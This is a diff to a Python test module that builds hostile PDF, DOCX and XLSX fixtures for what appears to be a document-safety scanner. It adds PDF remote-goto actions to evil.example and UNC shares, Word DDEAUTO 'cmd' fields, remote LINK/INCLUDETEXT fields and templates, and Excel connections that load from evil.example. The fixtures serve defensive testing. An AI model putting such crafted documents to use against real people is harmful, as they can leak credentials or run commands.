@@ -5,6 +5,7 @@ import zlib
 from collections.abc import Iterator
 
 from tests.documents import (
+    EXCEL_MAIN,
     WORD_MAIN,
     a_docx,
     a_jpeg,
@@ -15,6 +16,7 @@ from tests.documents import (
     a_tiff,
     a_xlsx,
     a_zip,
+    an_office_file,
     content_types,
     relation_type,
     relations,
@@ -23,6 +25,8 @@ from tests.documents import (
 Hostile = tuple[str, str, bytes, str]
 """Case, kind, content, finding."""
 
+WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+CELLS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 _ENCRYPTION = f"<</Filter/Standard/V 1/R 2/O({'a' * 32})/U({'b' * 32})/P -4>>"
 _ATTACHED = "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"
 
@@ -51,6 +55,18 @@ def hostile_pdfs() -> Iterator[Hostile]:
     names = "/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
     attached = a_pdf(catalog=names, objects=[_ATTACHED, a_stream("/Type/EmbeddedFile", b"MZ")])
     yield "attached program", "pdf", attached, "embeddedFiles"
+    share = r"(\\\\evil\\share\\x.pdf)"
+    for case, place in (
+        ("GoToE", share),
+        ("GoToR", share),
+        ("GoToR", f"<</Type/Filespec/F{share}>>"),
+        ("GoToR", "<</FS/URL/F(http://evil.example/x.pdf)>>"),
+        ("GoToR", "(//evil.example/x.pdf)"),
+    ):
+        jump = a_pdf(catalog=f"/AA<</O<</S/{case}/F{place}/D[0/Fit]>>>>")
+        yield f"{case} {place}", "pdf", jump, "outsideLinks"
+    away = a_pdf(catalog="/X 4 0 R", objects=[f"<</Length 0/F{share}>>stream\n\nendstream"])
+    yield "stream that lies on a server", "pdf", away, "outsideLinks"
     locked = a_pdf(trailer="/Encrypt 4 0 R/ID[(a)(b)]", objects=[_ENCRYPTION])
     yield "password", "pdf", locked, "encrypted"
     yield "five bytes", "pdf", b"%PDF-", "damaged"
@@ -122,11 +138,36 @@ def hostile_office_files() -> Iterator[Hostile]:
         ("image", "//evil.example/x.png"),
         ("frame", "mhtml:http://evil.example/x!y"),
         ("oleObject", "https://evil.example/x"),
+        ("attachedTemplate", "%5C%5Cevil%5Cx.dotm"),
     ):
         links = relations(("r1", relation_type(kind), target, True))
         yield docx(f"{kind} {target}", {"word/_rels/document.xml.rels": links}, "outsideLinks")
     cut = "</w:t><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText><w:t>"
     yield "command in a field", "docx", a_docx(cut), "scripts"
+    command = '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'
+    body = f'<w:document xmlns:w="{WORDS}"><w:body>{command}</w:body></w:document>'
+    moved = an_office_file("other/document.xml", WORD_MAIN, body, {})
+    yield "command in a main part elsewhere", "docx", moved, "scripts"
+    renamed = an_office_file("word/document.bin", WORD_MAIN, body, {})
+    yield "command in a main part of another name", "docx", renamed, "damaged"
+    for field in ("LINK Word.Document.8", "IMPORT", "INCLUDETEXT"):
+        loading = f'<w:fldSimple w:instr=" {field} &quot;\\\\\\\\evil\\\\x&quot; "/>'
+        header = f'<w:hdr xmlns:w="{WORDS}">{loading}</w:hdr>'
+        yield docx(field, {"word/header1.xml": header}, "outsideLinks")
+    taken_in = relations(("r1", relation_type("aFChunk"), "a.html", False))
+    parts: dict[str, bytes | str] = {"word/_rels/document.xml.rels": taken_in, "word/a.html": "<a>"}
+    yield docx("page taken in as it is", parts, "embeddedFiles")
+    yield docx("RTF", {"word/a.dat": b"{\\rtf1{\\object}}"}, "embeddedFiles")
+    asking = '<connection id="1" type="4"><webPr url="http://evil.example"/></connection>'
+    loading = '<connection id="1" type="1" refreshOnLoad="1"><dbPr connection="x"/></connection>'
+    for connection in (asking, loading):
+        inside = f'<connections xmlns="{CELLS}">{connection}</connections>'
+        book = a_xlsx(parts={"xl/connections.xml": inside})
+        yield f"connection {connection}", "xlsx", book, "outsideLinks"
+    linked = EXCEL_MAIN.replace("sheet.main", "externalLink")
+    types = content_types(("/xl/workbook.xml", EXCEL_MAIN), ("/xl/worksheets/a.xml", linked))
+    hidden = a_xlsx(parts={"[Content_Types].xml": types, "xl/worksheets/a.xml": "<a/>"})
+    yield "link to a program among the sheets", "xlsx", hidden, "damaged"
     yield "workbook as a document", "docx", a_xlsx(), "otherKind"
     yield "document as a workbook", "xlsx", a_docx(), "otherKind"
     yield "any archive", "docx", a_zip({"word/document.xml": "<a/>"}), "otherKind"
